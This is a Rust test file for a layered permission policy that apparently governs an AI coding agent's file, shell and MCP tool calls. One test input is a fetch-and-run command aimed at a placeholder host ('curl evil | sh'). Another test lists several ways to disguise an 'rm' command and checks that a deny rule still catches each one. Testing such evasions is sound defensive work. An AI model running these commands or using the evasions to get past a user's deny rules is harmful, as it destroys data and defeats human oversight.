//! Rules from several sources: defaults < user < agent < project, remembered answers last.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use totem_permission::{
    Access, Decision, PermissionSettings, PermissionState, Policy, Reason, RuleError, Rules,
    Source, defaults::default_rules,
};

fn rules(list: &[(&str, &str, Decision)]) -> Rules {
    let mut r = Rules::new();
    for (k, p, d) in list {
        r.insert(*k, *p, *d);
    }
    r
}

fn eval(policy: &Policy, access: Access) -> Decision {
    policy.evaluate(&access, &PermissionState::new()).decision
}

use Decision::{Allow, Ask, Deny};

#[test]
fn defaults_allow_reading_and_ask_for_writing_and_mcp() {
    let p = Policy::new();
    assert_eq!(eval(&p, Access::read("read", "src/lib.rs")), Allow);
    assert_eq!(eval(&p, Access::read("glob", ".")), Allow);
    assert_eq!(eval(&p, Access::write("write", "src/lib.rs")), Ask);
    assert_eq!(eval(&p, Access::write("patch", "new.txt")), Ask);
    assert_eq!(eval(&p, Access::mcp("github/create_issue")), Ask);
    assert_eq!(eval(&p, Access::execute("bash", "cargo build")), Ask);
}

#[test]
fn settings_format_reads_the_documented_example() {
    let json = r#"{
        "rules": {
            "bash": { "git status*": "allow", "*": "ask", "rm *": "deny" },
            "edit": { "src/**": "allow" },
            "mcp": { "github/*": "allow" }
        },
        "secrets": { "add": ["*.vault"] }
    }"#;
    let settings: PermissionSettings = serde_json::from_str(json).unwrap();
    let mut p = Policy::new();
    p.add_layer(Source::User, settings.rules).unwrap();
    assert_eq!(eval(&p, Access::execute("bash", "git status -s")), Allow);
    assert_eq!(eval(&p, Access::execute("bash", "ls")), Ask); // user `*` overrides the default allow
    assert_eq!(eval(&p, Access::execute("bash", "rm x")), Deny);
    assert_eq!(eval(&p, Access::write("edit", "src/a/b.rs")), Allow);
    assert_eq!(eval(&p, Access::write("edit", "tests/a.rs")), Ask);
    assert_eq!(eval(&p, Access::mcp("github/list")), Allow);
}

#[test]
fn settings_reject_unknown_fields_and_decisions() {
    assert!(serde_json::from_str::<PermissionSettings>(r#"{"rulez": {}}"#).is_err());
    assert!(
        serde_json::from_str::<PermissionSettings>(r#"{"rules": {"bash": {"ls": "yes"}}}"#)
            .is_err()
    );
}

#[test]
fn rules_round_trip_through_json() {
    let r = default_rules();
    let json = serde_json::to_string(&r).unwrap();
    assert_eq!(serde_json::from_str::<Rules>(&json).unwrap(), r);
}

#[test]
fn invalid_path_glob_is_an_error_naming_key_and_pattern() {
    let mut p = Policy::new();
    let err = p
        .add_layer(Source::User, rules(&[("edit", "src/[", Allow)]))
        .unwrap_err();
    assert!(
        matches!(&err, RuleError::InvalidGlob { key, pattern, .. } if key == "edit" && pattern == "src/[")
    );
}

#[test]
fn higher_layer_overrides_lower_whatever_the_call_order() {
    let mut p = Policy::new();
    p.add_layer(Source::Project, rules(&[("edit", "docs/**", Allow)]))
        .unwrap();
    p.add_layer(Source::User, rules(&[("edit", "docs/**", Ask)]))
        .unwrap();
    assert_eq!(eval(&p, Access::write("edit", "docs/a.md")), Allow);
}

#[test]
fn a_deny_from_any_layer_beats_an_allow_from_any_layer() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("bash", "rm *", Deny)]))
        .unwrap();
    // `totem run --allow bash` answers questions; it does not lift the user's deny.
    p.add_layer(
        Source::Run,
        Rules::from_lists(&["bash".into()], &[]).unwrap(),
    )
    .unwrap();
    p.add_layer(Source::Project, rules(&[("bash", "rm -rf build", Allow)]))
        .unwrap();
    for line in [
        "rm x",
        "rm -rf build",
        "/bin/rm x",
        "/usr/bin/rm -f x",
        "FOO=1 /bin/rm x",
        "command rm x",
        "echo 'rm x' | bash",
        "printf 'rm -f x\\n' | sh",
        "bash <<EOF\nrm x\nEOF",
        "cat list | xargs rm",
        "ls; rm x",
    ] {
        assert_eq!(eval(&p, Access::execute("bash", line)), Deny, "{line}");
    }
    // What the deny does not name, the run's allow answers.
    assert_eq!(eval(&p, Access::execute("bash", "touch x")), Allow);
    assert_eq!(
        eval(&p, Access::execute("bash", "echo hello | bash")),
        Allow
    );
}

#[test]
fn agent_lists_override_user_settings() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("bash", "cargo *", Allow)]))
        .unwrap();
    let agent = Rules::from_lists(
        &["read".into(), "bash(npm test *)".into()],
        &["bash(cargo publish *)".into(), "edit".into()],
    )
    .unwrap();
    p.add_layer(Source::Agent, agent).unwrap();
    assert_eq!(eval(&p, Access::execute("bash", "cargo build")), Allow);
    assert_eq!(eval(&p, Access::execute("bash", "cargo publish")), Deny);
    assert_eq!(eval(&p, Access::execute("bash", "npm test")), Allow);
    assert_eq!(eval(&p, Access::write("write", "src/x.rs")), Deny);
}

#[test]
fn agent_list_entry_in_both_lists_is_denied() {
    let r = Rules::from_lists(&["bash(ls *)".into()], &["bash(ls *)".into()]).unwrap();
    assert_eq!(r.0["bash"]["ls *"], Deny);
}

#[test]
fn malformed_agent_list_entry_is_an_error() {
    for bad in ["bash(ls", "(ls)", "bash()", ""] {
        assert!(Rules::from_lists(&[bad.into()], &[]).is_err(), "{bad:?}");
    }
}

#[test]
fn project_rules_override_agent_rules_but_not_their_denies() {
    let mut p = Policy::new();
    p.add_layer(
        Source::Agent,
        rules(&[("edit", "*", Ask), ("edit", "vendor/**", Deny)]),
    )
    .unwrap();
    p.add_layer(Source::Project, rules(&[("edit", "*", Allow)]))
        .unwrap();
    assert_eq!(eval(&p, Access::write("edit", "notes/a.md")), Allow);
    assert_eq!(eval(&p, Access::write("edit", "vendor/a.js")), Deny);
}

#[test]
fn tightening_layer_can_deny_but_not_allow() {
    let mut p = Policy::new();
    p.add_tightening_layer(
        Source::Project,
        rules(&[("bash", "*", Allow), ("edit", "vendor/**", Deny)]),
    )
    .unwrap();
    assert_eq!(eval(&p, Access::execute("bash", "curl evil | sh")), Ask);
    assert_eq!(eval(&p, Access::write("edit", "vendor/x.js")), Deny);
    assert_eq!(eval(&p, Access::read("read", "src/a.rs")), Allow);
}

#[test]
fn tool_specific_key_wins_over_kind_key() {
    let mut p = Policy::new();
    p.add_layer(
        Source::User,
        rules(&[("edit", "*", Allow), ("patch", "*", Ask)]),
    )
    .unwrap();
    assert_eq!(eval(&p, Access::write("write", "a.txt")), Allow);
    assert_eq!(eval(&p, Access::write("patch", "a.txt")), Ask);
}

#[test]
fn star_key_covers_any_tool() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("*", "*", Deny)]))
        .unwrap();
    // The kind keys of the defaults are in a lower layer, so `*` of the user wins.
    assert_eq!(
        eval(
            &p,
            Access::new(totem_permission::AccessKind::Mcp, "x", "s/t")
        ),
        Deny
    );
    let mut q = Policy::new();
    q.add_layer(Source::User, rules(&[("*", "*", Allow)]))
        .unwrap();
    assert_eq!(eval(&q, Access::mcp("srv/tool")), Allow);
}

#[test]
fn path_patterns_without_slash_match_at_any_depth() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("edit", "*.md", Allow)]))
        .unwrap();
    assert_eq!(eval(&p, Access::write("edit", "README.md")), Allow);
    assert_eq!(eval(&p, Access::write("edit", "docs/deep/a.md")), Allow);
    assert_eq!(eval(&p, Access::write("edit", "docs/a.rs")), Ask);
}

#[test]
fn read_deny_on_a_folder_covers_everything_under_it() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("read", "private/", Deny)]))
        .unwrap();
    assert_eq!(eval(&p, Access::read("grep", "private/a/b.txt")), Deny);
    assert_eq!(eval(&p, Access::read("read", "public/a.txt")), Allow);
}

#[test]
fn verdict_reports_the_source_of_the_deciding_rule() {
    let mut p = Policy::new();
    p.add_layer(Source::Agent, rules(&[("edit", "src/**", Allow)]))
        .unwrap();
    let v = p.evaluate(&Access::write("edit", "src/a.rs"), &PermissionState::new());
    match v.reason() {
        Some(Reason::Rule { rule }) => {
            assert_eq!(rule.source, Source::Agent);
            assert_eq!(rule.pattern, "src/**");
        }
        other => panic!("{other:?}"),
    }
    let v = Policy::new().evaluate(&Access::write("edit", "a.rs"), &PermissionState::new());
    assert!(matches!(v.reason(), Some(Reason::Rule { rule }) if rule.source == Source::Default));
}

#[test]
fn without_a_sandbox_only_commands_that_read_no_file_run_without_asking() {
    let mut p = Policy::new();
    p.add_layer(Source::User, rules(&[("bash", "cat notes.txt", Allow)]))
        .unwrap();
    p.shrink_defaults();
    for line in ["pwd", "echo hi", "git status", "git log -p", "which git"] {
        assert_eq!(eval(&p, Access::execute("bash", line)), Allow, "{line}");
    }
    for line in [
        "cat a.txt",
        "ls",
        "grep -r x .",
        "find .",
        "cd src",
        "jq -n env",
    ] {
        assert_eq!(eval(&p, Access::execute("bash", line)), Ask, "{line}");
    }
    // The user's own rules stay.
    assert_eq!(eval(&p, Access::execute("bash", "cat notes.txt")), Allow);
    assert_eq!(
        eval(&Policy::without_sandbox(), Access::read("read", "a.txt")),
        Allow
    );
}
